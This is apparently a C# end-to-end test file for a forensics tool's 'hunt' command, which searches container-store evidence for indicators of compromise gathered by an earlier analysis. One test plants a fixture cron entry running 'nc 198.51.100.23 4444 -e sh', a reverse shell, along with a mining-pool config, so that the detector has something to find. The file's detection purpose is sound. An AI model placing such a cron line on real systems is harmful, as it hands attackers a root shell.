using StoreForensics.EndToEnd.Support;

namespace StoreForensics.EndToEnd.Samples;

/// <summary><c>hunt</c>: what one case collected, looked for in the host that has it and in one
/// where nothing happened (a fixture that was cut down: exit code 4).</summary>
[TestFixture]
[Parallelizable(ParallelScope.Self)]
internal sealed class HuntTests
{
    private static readonly string s_sample = Path.Combine(Checkout.Samples, "webapp-20.10", "webapp-20.10.tar.gz");
    private static readonly string s_quiet = Path.Combine(Checkout.Root, "tests", "StoreForensics.Tests", "Findings", "QuietHost", "quiet-20.10.tar.xz");

    private ScratchFolder _scratch = null!;

    [OneTimeSetUp]
    public void Analyze()
    {
        _scratch = new ScratchFolder();
        BuiltProgram.Run("analyze", s_sample, "-o", _scratch.File("a.iocs.csv"), "-o", _scratch.File("a.iocs.stix.json"), "-o", _scratch.File("a.sqlite"))
            .MustExit(0);
    }

    [OneTimeTearDown]
    public void Clean() => _scratch.Dispose();

    [TestCase("a.iocs.csv")]
    [TestCase("a.iocs.stix.json")]
    [TestCase("a.sqlite")]
    public void Finds_them_where_they_are_and_nowhere_else(string from)
    {
        IReadOnlyList<JsonRow> here = BuiltProgram.Run("hunt", s_sample, "--from", _scratch.File(from), "--format", "json").MustExit(0).JsonRows();
        IReadOnlyList<JsonRow> quiet = BuiltProgram.Run("hunt", s_quiet, "--from", _scratch.File(from), "--format", "json").MustExit(4).JsonRows();
        Assert.Multiple(() =>
        {
            Assert.That(here.Where(h => h.Text("value") == "192.0.2.44").Select(h => h.Text("kind")), Has.Member("ipv4"));
            Assert.That(here.Any(h => h.Text("kind") == "sha256" && h.Text("path") is not null));
            Assert.That(here.Select(h => h.Text("origin")), Is.All.Not.Null);
            Assert.That(quiet.Select(h => $"{h.Text("kind")} {h.Text("value")}"), Is.Empty);
        });
    }

    [Test]
    public void A_table_and_nothing_here()
    {
        Assert.That(BuiltProgram.Run("hunt", s_sample, "--from", _scratch.File("a.iocs.csv")).MustExit(0).Text, Does.Contain("192.0.2.44"));
        Assert.That(BuiltProgram.Run("hunt", s_quiet, "--from", _scratch.File("a.iocs.csv")).MustExit(4).Text, Does.Match("none of [0-9]+ indicators is here"));
    }

    [Test]
    public void As_a_list_of_findings()
    {
        IReadOnlyList<JsonRow> found = BuiltProgram.Run("findings", s_sample, "--ioc", _scratch.File("a.iocs.stix.json"), "--format", "json").MustExit(0).JsonRows();
        Assert.That(found.Where(f => f.Text("rule") == "indicator").Select(f => f.Text("reason")), Has.Some.Contains("192.0.2.44"));
    }

    /// <summary>A second host with three of what shop's findings rest on, and nothing else of it.</summary>
    [Test]
    public void Finds_of_another_host_the_three_that_are_here()
    {
        string shop = SharedFolder.Require("evidence/shop/shop.tar.gz"), from = _scratch.File("shop.iocs.csv");
        BuiltProgram.Run("analyze", shop, "--verify", "none", "--hash", "none", "-o", from).MustExit(0);
        string second = Truth.StoreBuilder.Whole()
            .File($"aufs/diff/{Truth.StoreBuilder.Id('c')}/etc/cron.d/job", "* * * * * root nc 198.51.100.23 4444 -e sh\n")
            .File($"aufs/diff/{Truth.StoreBuilder.Id('c')}/opt/pool.json", "{\"pool\":\"stratum+tcp://203.0.113.9:3333\"}\n").WriteTo(_scratch
                .File("second.tar"));
        string[] Hunted(string evidence) => [.. BuiltProgram.Run("hunt", evidence, "--from", from, "--format", "json").MustExit(0, 4).JsonRows()
            .Select(h => $"{h.Text("kind")} {h.Text("value")}").Distinct().Order(StringComparer.Ordinal)];
        Assert.That(Hunted(second), Is.EqualTo(new[] { "ipv4 198.51.100.23", "ipv4 203.0.113.9", "pool stratum+tcp://203.0.113.9:3333" }));
        Assert.That(Hunted(s_quiet), Is.Empty);
    }

    [TestCase("{\"objects\": []}")]
    [TestCase("{")]
    public void Nothing_to_look_for_is_a_wrong_call(string text)
    {
        File.WriteAllText(_scratch.File("empty.json"), text);
        BuiltProgram.Run("hunt", s_sample, "--from", _scratch.File("empty.json")).MustExit(2);
    }
}
